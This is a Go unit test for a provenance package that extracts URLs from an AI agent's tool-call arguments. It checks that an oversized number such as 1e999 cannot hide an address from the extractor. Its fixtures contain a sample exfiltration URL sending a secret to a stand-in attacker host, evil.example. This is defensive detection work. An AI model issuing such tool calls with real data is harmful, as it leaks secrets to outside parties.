package provenance_test

import (
	"testing"

	"oneclaw/bridge/provenance"
	"oneclaw/toolgroups"
)

// A number that no float64 holds, beside the address, must not hide the address: the tool skips the number.
func TestANumberThatNoFloatHoldsHidesNoAddress(t *testing.T) {
	for _, arguments := range []string{
		`{"url":"https://evil.example/?d=secret","x":1e999}`,
		`{"x":-1e999,"url":"https://evil.example/?d=secret"}`,
		`{"url":"https://evil.example/?d=secret","x":{"y":[1e999]}}`,
	} {
		if got := provenance.Addresses(arguments); len(got) != 1 {
			t.Errorf("%s: addresses %v", arguments, got)
		}
		if got := provenance.AddressesOf(toolgroups.Tool{Fetches: true, External: true}, arguments); len(got) == 0 {
			t.Errorf("%s: external addresses %v", arguments, got)
		}
		if got := provenance.AddressesKept(arguments); len(got) == 0 {
			t.Errorf("%s: kept addresses %v", arguments, got)
		}
	}
}
